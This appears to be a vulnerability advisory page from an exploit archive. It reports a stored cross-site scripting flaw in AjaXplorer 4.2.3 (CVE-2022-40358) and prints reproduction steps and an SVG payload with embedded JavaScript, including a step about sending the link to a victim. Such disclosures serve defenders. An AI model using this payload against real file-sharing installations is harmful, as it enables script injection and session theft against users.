AjaXplorer 4.2.3 - Stored Cross-Site Scripting (XSS)

Risk: Low
Local: No
Remote: Yes

# Exploit Title: AjaXplorer 4.2.3 - Stored Cross-Site Scripting (XSS) # Exploit Author: Scott Sturrock 'ssturrock -at- protonmail -dot- com' # Vendor Homepage:http://www.ajaxplorer.info/ # Software Link: https://sourceforge.net/projects/ajaxplorer/files/ajaxplorer/stable-channel/4.2.3/ # Version: 4.2.3 # Tested on: Linux, Windows # CVE :CVE-2022-40358 An issue was discovered in AjaXplorer 4.2.3, allows attackers to cause cross site scripting vulnerabilities via a crafted svg file upload. Steps to reproduce: 1.Right click > Create a new file > name file xss.svg 2.Right click on file > open in Source Editor 3.Copy paste below Payload and click save <?xml version="1.0" standalone="no"?><svg width="1000" height="1000" version="1.1" xmlns="http://www.w3.org/2000/svg"><circle cx="50" cy="50" r="25" stroke="red" fill="transparent" stroke-width="50"/><script type="text/javascript">alert('XSS');</script></svg> 4.Right click file and open in external window for payload URL to send to victim



Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux *1000 | date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2022, cxsecurity.com


Back to Top